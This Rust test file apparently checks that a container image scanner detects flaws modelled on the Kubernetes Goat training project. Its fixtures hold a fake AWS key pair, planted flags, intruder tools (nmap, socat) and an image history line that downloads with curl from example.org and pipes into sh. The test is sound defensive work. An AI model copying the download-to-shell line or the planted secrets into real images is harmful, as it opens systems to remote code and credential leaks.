//! The flaws that Kubernetes Goat planted in its images, rebuilt small: each is found by a rule that knows nothing of Kubernetes Goat,
//! and the report says where it is and what made it.
//!
//! Scenarios are counted as in the project's guide. Secrets are put together here, so that none lies about.

use std::io::Write;

use anyhow::{Context, Result};
use flate2::Compression;
use flate2::write::ZlibEncoder;
use serde_json::{Value, json};
use tests::image::{Encoding, Image, Layout};
use tests::site::run;

use crate::command_line::database;

/// What must be said of an image: the check, and parts of the observation as JSON.
struct Planted {
    scenario: &'static str,
    image: Image,
    check: &'static str,
    parts: Vec<&'static str>,
}

/// A flag in the form that the project gives its flags.
fn flag() -> String {
    format!("k8s-goat-{}{}", "51bc78332065561b", "0c99280f62510bcc")
}

fn alpine() -> Image {
    Image::new()
        .layer([("etc/os-release", "ID=alpine\nVERSION_ID=3.20.3\nPRETTY_NAME=\"Alpine Linux v3.20\"\n")])
}

/// A git object, as git stores it: a compressed file with a header.
fn git_object(content: &str) -> Result<Vec<u8>> {
    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::default());
    write!(encoder, "blob {}\0{content}", content.len())?;
    Ok(encoder.finish()?)
}

/// An ELF program with nothing in it but Go's build information (debug/buildinfo), for the version.
fn go_program(version: &str, module: &str) -> Vec<u8> {
    const SEGMENT: u64 = 128;
    let module = [
        &[0x30, 0x77, 0xaf, 0x0c, 0x92, 0x74, 0x08, 0x02, 0x41, 0xe1, 0xc1, 0x07, 0xe6, 0xd6, 0x18, 0xe6][..],
        module.as_bytes(),
        &[0xf9, 0x32, 0x43, 0x31, 0x86, 0x18, 0x20, 0x72, 0x00, 0x82, 0x42, 0x10, 0x41, 0x16, 0xd8, 0xf2],
    ]
    .concat();
    let mut info = b"\xff Go buildinf:\x08\x02".to_vec();
    info.resize(32, 0);
    for text in [version.as_bytes(), &module] {
        assert!(text.len() < 128, "a length of one byte");
        info.push(text.len() as u8);
        info.extend_from_slice(text);
    }
    let mut file = b"\x7fELF\x02\x01\x01".to_vec();
    file.resize(16, 0);
    file.extend([2, 0, 62, 0, 1, 0, 0, 0]);
    for number in [0x40_0080, 64, 0_u64] {
        file.extend(number.to_le_bytes());
    }
    file.extend([0, 0, 0, 0, 64, 0, 56, 0, 1, 0, 64, 0, 0, 0, 0, 0]);
    file.extend([1, 0, 0, 0, 6, 0, 0, 0]);
    let size = info.len() as u64;
    for number in [SEGMENT, 0x40_0080, 0x40_0080, size, size, 16] {
        file.extend(number.to_le_bytes());
    }
    file.resize(SEGMENT as usize, 0);
    file.extend(info);
    file
}

fn planted() -> Result<Vec<Planted>> {
    let keys = format!(
        "[default]\naws_access_key_id = {}{}\naws_secret_access_key = {}{}\n",
        "AKIA", "IVSHD6243H22G2KE", "cgGn4+gDgnriogn4g+34ig", "hn3gj9Bt5sRw2QxK7z"
    );
    let object = "app/.git/objects/7d/aa5f4cda812faa9c62966ba57ee9047ee6b577";
    let base64 = "azhzLWdvYXQtY2E5MGVmODVkYjdhNWFlZjAxOThkMDJmYjBkZjljYWI=";
    Ok(vec![
        Planted {
            scenario: "1: keys that were committed, removed, and are in the history of git",
            image: alpine()
                .layer_as(Encoding::Gzip, [(object, git_object(&keys)?), ("app/.git/HEAD", b"ref: x".to_vec())]),
            check: "TW-SEC-AWS",
            parts: vec![object],
        },
        Planted {
            scenario: "1: the history of git itself",
            image: alpine().layer([("app/.git/HEAD", "ref: refs/heads/main\n")]),
            check: "TW-FS-JUNK",
            parts: vec!["app/.git/HEAD"],
        },
        Planted {
            scenario: "3: a flag in base64 among a service's secrets",
            image: alpine().layer([(
                "metadata/latest/secrets/kubernetes-goat",
                &*format!("{{\"metadata\": \"static-metadata\", \"data\": \"{base64}\"}}\n"),
            )]),
            check: "TW-SEC-NAMED-FILE",
            parts: vec!["metadata/latest/secrets/kubernetes-goat"],
        },
        Planted {
            scenario: "7: a key in the environment",
            image: alpine()
                .runs(json!({"User": "1000", "Env": [format!("API_KEY={}", flag())]}))
                .made_by(&["ADD alpine-minirootfs.tar.gz / # buildkit"]),
            check: "TW-CFG-ENV-SECRET",
            parts: vec!["config.Env[API_KEY]"],
        },
        Planted {
            scenario: "9: a program of a time long gone",
            image: alpine().layer_as(
                Encoding::Gzip,
                [("usr/local/bin/tiller", go_program("go1.18.1", "path\tx\nmod\tk8s.io/helm\tv2.16.7\t\n"))],
            ),
            check: "TW-OS-EOL",
            parts: vec!["Go 1.18", "usr/local/bin/tiller"],
        },
        Planted {
            scenario: "10: a download that goes into a shell, hidden in a long command",
            image: alpine().layer([("usr/bin/system-startup", "")]).made_by(&[
                "/bin/sh -c #(nop) ADD file:1a2b in / ",
                "/bin/sh -c apk add --no-cache htop curl && echo \"curl -sSL https://example.org/x && echo 'id' | sh \" > /usr/bin/system-startup",
            ]),
            check: "TW-HIST-PIPE",
            parts: vec!["history[1]", "curl -sSL https://example.org/x"],
        },
        Planted {
            scenario: "11: a secret that is loaded into a cache",
            image: alpine().layer([("data.redis", &*format!("SET SECRETSTUFF \"{}\"\n", flag()))]),
            check: "TW-SEC-REDIS",
            parts: vec!["data.redis"],
        },
        Planted {
            scenario: "14: an image full of an intruder's tools, run as root",
            image: alpine().layer([("usr/bin/nmap", ""), ("usr/bin/socat", "")]).runs(json!({"Cmd": ["sh"]})),
            check: "TW-FS-TOOLS",
            parts: vec!["usr/bin/nmap, usr/bin/socat"],
        },
        Planted {
            scenario: "14: the same image runs as root",
            image: alpine().runs(json!({"Cmd": ["sh"]})),
            check: "TW-CFG-USER",
            parts: vec!["config.User"],
        },
        Planted {
            scenario: "15: a secret that a later layer deletes",
            image: alpine()
                .layer([("root/secret.txt", &*flag())])
                .layer([("root/contribution.txt", "thanks"), ("root/.wh.secret.txt", "")])
                .made_by(&["ADD rootfs.tar.gz /", "ADD secret.txt /root/secret.txt", "RUN rm -rf /root/secret.txt"]),
            check: "TW-SEC-NAMED-FILE",
            parts: vec!["root/secret.txt", "\"deleted\"", "ADD secret.txt"],
        },
    ])
}

#[test]
fn every_flaw_that_kubernetes_goat_planted_in_images_is_found_by_general_rules() -> Result<()> {
    let folder = tempfile::tempdir()?;
    let database = database(folder.path())?;
    for Planted { scenario, image, check, parts } in planted()? {
        let layout = Layout::new(&folder.path().join("layout"))?;
        layout.tag(&layout.image(&image)?, "x")?;
        let name = format!("oci:{}", layout.folder().display());
        let scan = |format| run(folder.path(), &["scan", "--database", &database, "--format", format, &name]);
        let report: Value = serde_json::from_slice(&scan("json")?.stdout).context(scenario)?;
        let observations = report["observations"].as_array().context(scenario)?;
        let found: Vec<String> = observations
            .iter()
            .filter(|one| one["rule"].as_str().is_some_and(|rule| rule.starts_with(check)))
            .map(Value::to_string)
            .collect();
        let is_told = |one: &String| parts.iter().all(|part| one.contains(part));
        assert!(found.iter().any(is_told), "{scenario}: {check} with {parts:?} in {observations:#?}");
        for format in ["json", "table", "markdown", "sarif", "cyclonedx"] {
            let text = String::from_utf8(scan(format)?.stdout)?;
            // The table is for people, and names no ids.
            let is_named =
                text.contains(check) || format == "table" && text.contains("about the image itself");
            assert!(is_named, "{scenario}: {format} does not name {check}: {text}");
            assert!(!text.contains(&flag()), "{scenario}: {format} shows the secret");
        }
    }
    Ok(())
}
